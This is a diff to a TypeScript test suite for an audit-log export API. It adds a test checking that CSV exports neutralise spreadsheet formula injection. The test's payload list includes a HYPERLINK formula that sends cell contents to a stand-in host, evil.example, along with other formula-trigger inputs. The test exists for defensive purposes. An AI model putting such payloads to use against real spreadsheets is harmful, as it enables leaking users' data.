@@ -22,6 +22,7 @@ import { freePort } from '../../stack/ports.ts';
 import { testAuditSigningKey, testStack } from '../../test/support/stack.ts';
 import { callerFor, subgraphClient } from '../../test/support/subgraph-client.ts';
 import { createAuditCheckpointActivities } from '../../workflows/audit-checkpoint/activities.ts';
+import { parseExport } from './export-format.ts';
 import { auditResolvers } from './resolvers.ts';
 
 const run = promisify(execFile);
@@ -162,8 +163,8 @@ describe('exportAuditLog', () => {
   const EXPORT = 'mutation ($format: AuditExportFormat!) { exportAuditLog(format: $format) { url expiresAt format eventCount } }';
   const workDir = mkdtempSync(join(tmpdir(), 'credence-export-'));
 
-  async function exportFile(format: 'JSON_LINES' | 'CSV'): Promise<{ file: string; eventCount: number }> {
-    const result = await call<{ exportAuditLog: { url: string; eventCount: number; expiresAt: string } }>(callerFor('AUDITOR', orgA), EXPORT, { format });
+  async function exportFile(format: 'JSON_LINES' | 'CSV', organizationId = orgA): Promise<{ file: string; eventCount: number }> {
+    const result = await call<{ exportAuditLog: { url: string; eventCount: number; expiresAt: string } }>(callerFor('AUDITOR', organizationId), EXPORT, { format });
     expect(result.errors).toBeUndefined();
     const url = new URL(result.data!.exportAuditLog.url);
     expect(url.origin).toBe(config.downloads.publicUrl);
@@ -199,6 +200,25 @@ describe('exportAuditLog', () => {
     const result = await verifyOffline(file);
     expect(result.code).toBe(1);
     expect(result.stdout).toContain('INVALID at sequence 3');
+  });
+
+  it('writes no CSV cell a spreadsheet would run as a formula, and the export still verifies exactly', async () => {
+    const org = randomUUID();
+    const staff = callerFor('CREDENTIALING_STAFF', org);
+    const payloads = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\r=1', "'=already quoted", 'plain-id'];
+    for (const resourceId of payloads) {
+      await runAsCaller(orm, staff, (em) => recordAudit(em, staff, { action: 'VIEW', resourceType: 'Credential', resourceId, outcome: 'SUCCESS' }));
+    }
+    const { file } = await exportFile('CSV', org);
+    const text = readFileSync(file, 'utf8');
+    const cells = text.split('\n').flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)/g) ?? []).map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain("'=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")");
+    const parsed = parseExport(text);
+    expect(parsed.events.map((event) => event.resourceId)).toEqual(payloads);
+    const result = await verifyOffline(file);
+    expect(result.stdout).toMatch(/valid: 8 events chained/);
+    expect(result.code).toBe(0);
   });
 
   it('refuses checkpoints signed by a key other than the pinned one', async () => {
